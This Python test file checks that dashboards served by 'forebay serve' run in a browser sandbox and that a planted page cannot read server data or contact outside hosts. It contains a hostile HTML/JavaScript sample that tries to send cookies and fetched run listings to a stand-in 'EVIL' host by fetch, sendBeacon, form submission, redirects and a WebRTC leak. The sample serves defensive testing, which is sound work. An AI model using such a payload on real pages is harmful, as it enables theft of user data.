"""Pages of `forebay serve` in a real browser: the dashboard in its sandbox, and
what a page of somebody else's making can do there.
"""

import csv
import functools
import http.server
import io
import json
import os
import re
import socket
import threading
import time

import browser
import forebay
import test_dashboard
from test_serve import TOKEN, Serving

PIPELINE = """\
pipeline: shop
description: Sells <b>things</b> & more, and this line is long enough to wrap.
trigger: {uri: "${STORE}/raw/*.csv"}
sources: {upload: {uri: "${trigger.uri}", on_reject: fail, title: Sales}}
sinks: {page: {type: dashboard, uri: "${STORE}/out/dash \u58f2\u4e0a.html"}}
"""
PAGE = "store/out/dash \u58f2\u4e0a.html"
ROWS = [["name", "amount"]] + [
    ["%s %d" % (["Ann", "表計算", "Zoë"][i % 3], i), "%d.50" % (i * 7 % 40)]
    for i in range(30)]

# A page that tries all it can to read what is not its own and to send
# something out; it notes what came of it, by ways that tell.
HOSTILE = """<!DOCTYPE html><html lang=en><title>quiet</title>
<meta http-equiv=refresh content="1;url=EVIL/refresh">
<link rel=prefetch href=EVIL/prefetch><link rel=preconnect href=EVIL>
<link rel=stylesheet href=EVIL/css><link rel=icon href=EVIL/icon>
<script src=EVIL/js></script><img src=EVIL/img onerror="document.title='on'">
<iframe src=EVIL/frame></iframe><iframe src=/runs></iframe>
<object data=EVIL/object></object><video src=EVIL/video></video>
<style>@import url(EVIL/import); body {background: url(EVIL/background)}</style>
<form id=f action=EVIL/form></form>
<a id=a href=EVIL/blank target=_blank ping=EVIL/ping>a</a>
<script type=speculationrules>
{"prefetch": [{"source": "list", "urls": ["EVIL/speculation"]}]}</script>
<script>
  document.title = "loud";
  fetch("/runs").then(r => r.text()).then(t => fetch("EVIL/?" + t));
  navigator.sendBeacon("EVIL/beacon", document.cookie);
  document.getElementById("f").submit();
  document.getElementById("a").click();
  window.open("EVIL/open");
  const c = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:UDP"}]});
  c.createDataChannel("x"); c.createOffer().then(o => c.setLocalDescription(o));
  location.href = "EVIL/location";
</script>"""

# What a script of a page gets to see of this origin; run by hand, for no page
# can run one that the plugin did not write.
REACH = """(async () => {
  const of = {};
  const look = async (name, get) => {
    try { of[name] = String(await get()); } catch (e) { of[name] = e.name; } };
  await look("origin", () => self.origin);
  await look("cookie", () => document.cookie);
  await look("storage", () => localStorage.length);
  await look("database", () => indexedDB.open("x"));
  await look("fetch", () => fetch("/runs").then(r => r.text()));
  await look("window", () => window.open("/runs"));
  return of;
})()"""


class Evil(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.server.paths.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *_):
        pass


class Browsing(Serving):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.browser = cls.enterClassContext(browser.Browser())

    def setUp(self):
        super().setUp()
        self.pipeline = self.write("shop.yaml", PIPELINE)
        out = io.StringIO()
        csv.writer(out, lineterminator="\r\n").writerows(ROWS)
        self.csv = out.getvalue()
        self.upload(self.csv)
        self.work(self.pipeline)
        self.page_of = self.browser.page()
        self.addCleanup(self.page_of.close)

    def target(self):
        return re.search(r'href="(/dashboards/[^"]+)"', self.server.get(
            "/", Authorization="Bearer " + TOKEN).text)[1]

    def open(self, target, who="", **more):
        self.page_of.open("http://%s127.0.0.1:%d%s" % (
            who, self.server.port, target), **more)

    def picture(self, name):
        self.page_of.picture(os.path.join(test_dashboard.PICTURES,
                                          name + ".png"))


class Sandbox(Browsing):
    def test_the_dashboard_works_behind_a_password(self):
        self.serve("--token-file", self.token_file())
        page, target = self.page_of, self.target()
        self.open(target, who="me:%s@" % TOKEN.replace(" ", "%20"))
        self.assertEqual(page.run("self.origin"), "null")
        self.assertEqual(page.run("document.title"), "shop")
        self.assertEqual(page.run(
            "document.querySelectorAll('svg.chart .bar').length > 0"), True)
        for width in test_dashboard.WIDTHS:
            page.size(width)
            self.assertLessEqual(page.run(
                "document.scrollingElement.scrollWidth"), width)
            self.assertEqual(page.run(test_dashboard.COLLISIONS), [])
            self.picture("serve-dashboard-%d" % width)
        seen = functools.partial(page.run, test_dashboard.SEEN % (1, 1))
        page.click("th button", 1)
        amounts = [float(text) for text in seen()]
        self.assertEqual(amounts, sorted(amounts))
        self.assertEqual(amounts[0], 0.5)
        page.click("input")
        page.type("表計算 3.50")
        self.assertEqual(seen(), [row[1] for row in ROWS
                                  if "表" in row[0] and "3.50" in row[1]])
        self.assertEqual(self.download(), self.csv)
        self.assertEqual(page.complaints(), [])
        asked = {url for url in page.requests()
                 if not url.startswith(("data:", "blob:"))}
        self.assertEqual({re.sub(r"^http://[^/]*", "", url) for url in asked},
                         {target})

    def download(self):
        folder = self.path("downloads")
        os.makedirs(folder, exist_ok=True)
        self.page_of.downloads_to(folder)
        self.page_of.click(".csv")
        self.page_of.wait_for("Browser.downloadProgress", state="completed")
        return self.read("downloads/upload.csv").decode()

    def test_what_stands_on_the_dashboard_reaches_nothing_of_the_server(self):
        self.serve()
        self.open(self.target())
        of = self.page_of.run(REACH)
        self.assertEqual(of.pop("origin"), "null")
        self.assertEqual(of.pop("window"), "null")
        self.assertEqual(of, {"cookie": "SecurityError",
                              "storage": "SecurityError",
                              "database": "SecurityError",
                              "fetch": "TypeError"})


class Hostile(Browsing):
    """An object that somebody else has put in the place of the dashboard."""

    def setUp(self):
        super().setUp()
        self.evil = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Evil)
        self.evil.paths = []
        thread = threading.Thread(target=self.evil.serve_forever)
        thread.start()
        self.addCleanup(thread.join)
        self.addCleanup(self.evil.server_close)
        self.addCleanup(self.evil.shutdown)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.addCleanup(self.udp.close)
        self.udp.bind(("127.0.0.1", 0))

    def hostile(self, text=HOSTILE):
        return text.replace("EVIL", "http://127.0.0.1:%d" %
                            self.evil.server_port).replace(
            "UDP", str(self.udp.getsockname()[1]))

    def assert_nothing_left(self):
        time.sleep(1.5)  # the page itself may have no timers
        self.assertEqual(self.evil.paths, [])
        self.udp.settimeout(0)
        with self.assertRaises(BlockingIOError):
            self.udp.recv(100)
        frame = self.page_of.call("Page.getFrameTree")["frameTree"]["frame"]
        self.assertIn("/dashboards/", frame["url"])
        self.assertEqual(self.page_of.run("document.title"), "quiet")

    def test_no_script_but_the_known_one_runs(self):
        self.write(PAGE, self.hostile(re.sub("<meta.*", "", HOSTILE)))
        self.serve()
        self.open(self.target())
        self.assert_nothing_left()

    def test_a_page_of_another_sink_runs_none_and_leads_nowhere(self):
        self.write("shop.yaml", PIPELINE.replace("type: dashboard, ", ""))
        os.unlink(self.path("store/raw/a.csv"))
        self.upload("x\n1\n", name="b.csv")
        self.work(self.pipeline)
        self.write(PAGE, self.hostile())
        self.serve()
        self.open(self.target())
        self.assert_nothing_left()

    def test_our_script_in_another_page_reaches_nothing(self):
        """The one script that runs, on contents that it was not made for."""
        page = self.read(PAGE).decode()
        self.write(PAGE, page.replace("<main", self.hostile(
            "<img src=EVIL/img onerror=\"document.title='on'\"><main")).replace(
                "<title>shop", "<title>quiet"))
        self.serve()
        self.open(self.target())
        self.assertEqual(self.page_of.run(
            "document.querySelectorAll('th button').length"), 2)
        self.assert_nothing_left()


class Pages(Browsing):
    """The server's own pages."""

    def test_they_fit_and_can_be_read_at_every_width(self):
        self.upload("name,amount\nbad\n", name="表.csv")
        self.work(self.pipeline, status=None)
        self.serve()
        run = re.search(r'href="(/runs/[^"]+)"', self.page("/"))[1]
        for name, target in (("pipelines", "/"), ("runs", "/runs"),
                             ("run", run), ("message", "/healthz/x")):
            for width in (*test_dashboard.WIDTHS, 320):
                self.open(target, width=width)
                with self.subTest(page=name, width=width):
                    self.assertLessEqual(self.page_of.run(
                        "document.scrollingElement.scrollWidth"), width)
                if width != 320:
                    self.picture("serve-%s-%d" % (name, width))
            for dark in (False, True):
                self.page_of.scheme(dark)
                with self.subTest(page=name, dark=dark):
                    self.assertEqual(
                        self.page_of.run(test_dashboard.CONTRAST), [])


if __name__ == "__main__":
    forebay.unittest.main()
